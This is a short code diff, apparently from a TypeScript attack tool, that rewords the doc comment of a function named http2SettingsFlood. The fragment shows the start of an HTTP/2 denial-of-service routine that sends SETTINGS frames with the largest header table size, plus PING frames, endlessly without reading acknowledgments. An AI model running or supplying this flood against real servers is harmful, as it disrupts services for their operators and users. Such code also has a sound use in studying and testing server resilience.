@@ -3,7 +3,7 @@ import { frame, frameType, preface } from "./http2-frames.ts";
 
 const headerTableSize = Buffer.from([0, 1, 0x7f, 0xff, 0xff, 0xff]);
 
-/** Sends SETTINGS (with the largest header table) and PING frames without end, and reads no acknowledgement. */
+/** Sends SETTINGS (with the largest header table) and PING frames endlessly, and reads no acknowledgments. */
 export function http2SettingsFlood(options: AttackOptions): Promise<void> {
   const pair = Buffer.concat([
     frame(frameType.settings, 0, 0, headerTableSize),
